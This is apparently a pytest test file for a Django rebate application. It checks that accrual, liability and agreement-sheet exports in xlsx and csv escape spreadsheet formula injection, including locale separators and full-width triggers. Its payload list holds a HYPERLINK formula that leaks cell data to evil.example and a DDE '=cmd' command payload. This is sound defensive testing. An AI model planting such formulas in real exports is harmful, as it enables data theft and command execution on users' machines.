"""R14: names and notes that begin with =, +, -, @, tab or CR never become formulas: 0 formula cells in any
exported .xlsx, 0 unescaped trigger cells in any .csv, for every text column of every sheet."""

import datetime

import pytest

from customers import roles
from pages.sheets import agreement_sheet_export
from rebates.exports import csv_text
from rebates.exports.cells import FORMULA_TRIGGERS
from rebates.models import RebateProgram
from rebates.services.exports import accruals_export
from tests.excel.ledgers import accrue, finance_user, seed_agreement
from tests.excel.readback import (
    csv_formula_cells_in_any_locale,
    csv_rows,
    formula_cells,
    unescaped_trigger_cells,
    values,
    workbook,
    xlsx_formula_texts_without_quote_prefix,
)
from tests.factories import CompetitorFactory, CustomerFactory, PriceClaimFactory, UserFactory

pytestmark = pytest.mark.django_db

AS_OF = datetime.date(2026, 12, 31)
PAYLOADS = [
    "=1+2",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "{=1+2}",
    "=cmd|' /C calc'!A0",
]


def as_shown(text):
    # The file keeps a carriage return as _x000D_ (as Excel does); Excel shows the character, openpyxl not.
    return text.replace("_x000D_", "\r") if isinstance(text, str) else text


def hostile_agreement(payload):
    """Every text column of every sheet starts with the payload: agreement number, customer code and
    name, account manager, program, and the competitor named in a claim."""
    manager = UserFactory(username="hostile", first_name=payload, last_name="", role=roles.ACCOUNT_MANAGER)
    customer = CustomerFactory(code=f"{payload}C"[:40], name=f"{payload} Customer", account_manager=manager)
    agreement = seed_agreement(customer=customer, number=f"{payload}A"[:40], sku=f"{payload}SKU"[:60])
    RebateProgram.objects.filter(pk=agreement.program_id).update(name=f"{payload} Program", code="hostile")
    PriceClaimFactory(customer=customer, product=agreement.products.get(),
                      competitor=CompetitorFactory(name=f"{payload} Competitor"), reported_on=datetime.date(2026, 5, 4))
    accrue(AS_OF)
    return agreement


@pytest.mark.parametrize("payload", PAYLOADS)
def test_accrual_xlsx_has_no_formula_cell_and_keeps_the_text(payload):
    hostile_agreement(payload)
    content = accruals_export(user=finance_user(), format="xlsx", filters={"customer": f"{payload}C"[:40]}).content
    assert formula_cells(content) == []
    sheets = workbook(content)
    first = values(sheets["Accruals"])[1]
    shown = {as_shown(cell) for cell in first[:5]}
    assert shown == {f"{payload}A"[:40], f"{payload}C"[:40], f"{payload} Customer", payload, f"{payload} Program"}
    liability = [row for row in values(sheets["Liability"]) if as_shown(row[0]) == f"{payload}C"[:40]]
    assert [as_shown(cell) for cell in liability[0][1:3]] == [f"{payload} Customer", payload]
    assert any(as_shown(row[1]) == f"customer {payload}C"[:49] for row in values(sheets["About"]))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_accrual_and_liability_csv_escape_every_trigger_cell(payload):
    hostile_agreement(payload)
    for report in ("accruals", "liability"):
        rows = csv_rows(accruals_export(user=finance_user(), format="csv", report=report).content)
        assert unescaped_trigger_cells(rows) == []
        escaped = [cell for row in rows for cell in row if cell.startswith("'")]
        # "{=...}" is a formula only to XlsxWriter's generic write, not to a spreadsheet reading CSV.
        assert bool(escaped) == payload.startswith(FORMULA_TRIGGERS), report
        assert all(cell[1:].startswith(payload[0]) for cell in escaped)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_agreement_sheet_xlsx_and_csv_carry_no_formula(payload):
    agreement = hostile_agreement(payload)
    content = agreement_sheet_export(user=finance_user(), number=agreement.number, as_of=AS_OF).content
    assert formula_cells(content) == []
    sheet = values(workbook(content).worksheets[0])
    claims = [as_shown(row[6]) for row in sheet if row[6] and " Competitor $" in row[6]]
    assert claims and claims[0].startswith(f"{payload} Competitor")
    assert as_shown(sheet[0][0]) == f"Monthly sheet of agreement {agreement.number}"
    rows = csv_rows(agreement_sheet_export(user=finance_user(), number=agreement.number, as_of=AS_OF,
                                           format="csv").content)
    assert unescaped_trigger_cells(rows) == []
    assert [row[7] for row in rows if " Competitor $" in row[7]] == [
        csv_text(f"{payload} Competitor $11.40 on {payload}SKU (call, 2026-05-04)")]
    assert rows[1][0] == csv_text(agreement.number)


def test_csv_text_escapes_exactly_the_trigger_characters():
    assert [csv_text(t) for t in ("=1", "+1", "-1", "@a", "\t1", "\r1", "a=1", "", "1-2")] == [
        "'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1", "a=1", "", "1-2"]


# --- other locales: separators inside a text, full-width triggers, leading spaces ------------------------

# payload -> how the customer name "<payload> Customer" must be written in the .csv: quoted when it holds a
# separator of any common locale, a quote or a line break; a single quote before every part that would start
# a formula, at the start and after each separator (where a reader of another locale starts a new cell).
LOCALE_PAYLOADS = {
    "Acme;=1+2;x": "\"Acme;'=1+2;x Customer\"",
    "Acme,=1+2": "\"Acme,'=1+2 Customer\"",
    "Acme|@SUM(A1)": "\"Acme|'@SUM(A1) Customer\"",
    "Acme\n=1+2": "\"Acme\n'=1+2 Customer\"",
    'Say "hi";-1+1': "\"Say \"\"hi\"\";'-1+1 Customer\"",
    "\uff1d1+2": "'\uff1d1+2 Customer",
    "\uff0b1+2": "'\uff0b1+2 Customer",
    "\uff0d1+2": "'\uff0d1+2 Customer",
    "\uff20SUM(A1)": "'\uff20SUM(A1) Customer",
    " =1+2": "' =1+2 Customer",
    "\u3000=1+2": "'\u3000=1+2 Customer",
    "\t=1": "\"'\t'=1 Customer\"",
    "-2+3": "'-2+3 Customer",
}


def locale_agreement(payload):
    """The customer's name, the manager's name, the program and the competitor start with the payload."""
    manager = UserFactory(username="hostile", first_name=payload, last_name="", role=roles.ACCOUNT_MANAGER)
    customer = CustomerFactory(code="HOSTILE", name=f"{payload} Customer", account_manager=manager)
    agreement = seed_agreement(customer=customer, number="AG-HOSTILE", sku="SKU-HOSTILE")
    RebateProgram.objects.filter(pk=agreement.program_id).update(name=f"{payload} Program", code="hostile")
    PriceClaimFactory(customer=customer, product=agreement.products.get(),
                      competitor=CompetitorFactory(name=f"{payload} Competitor"), reported_on=datetime.date(2026, 5, 4))
    accrue(AS_OF)
    return agreement


@pytest.mark.parametrize("payload", LOCALE_PAYLOADS)
def test_accrual_and_liability_csv_quote_and_neutralise_in_every_locale(payload):
    locale_agreement(payload)
    for report in ("accruals", "liability"):
        content = accruals_export(user=finance_user(), format="csv", report=report).content
        assert csv_formula_cells_in_any_locale(content) == [], report
        assert LOCALE_PAYLOADS[payload] in content.decode("utf-8-sig"), report


@pytest.mark.parametrize("payload", LOCALE_PAYLOADS)
def test_agreement_sheet_csv_quotes_and_neutralises_in_every_locale(payload):
    agreement = locale_agreement(payload)
    content = agreement_sheet_export(user=finance_user(), number=agreement.number, as_of=AS_OF, format="csv").content
    assert csv_formula_cells_in_any_locale(content) == []
    claims = [row[7] for row in csv_rows(content) if " Competitor $" in row[7]]
    assert len(claims) == 1 and claims[0].endswith(" Competitor $11.40 on SKU-HOSTILE (call, 2026-05-04)")


@pytest.mark.parametrize("payload", LOCALE_PAYLOADS)
def test_xlsx_exports_hold_no_formula_and_quote_prefix_every_text_that_starts_one(payload):
    agreement = locale_agreement(payload)
    for content in (accruals_export(user=finance_user(), format="xlsx", filters={}).content,
                    agreement_sheet_export(user=finance_user(), number=agreement.number, as_of=AS_OF).content):
        assert formula_cells(content) == []
        assert xlsx_formula_texts_without_quote_prefix(content) == []
    names = {cell for row in values(workbook(accruals_export(user=finance_user(), format="xlsx", filters={}).content)
                                    ["Accruals"]) for cell in row}
    assert f"{payload} Customer" in names  # the text itself is kept as typed
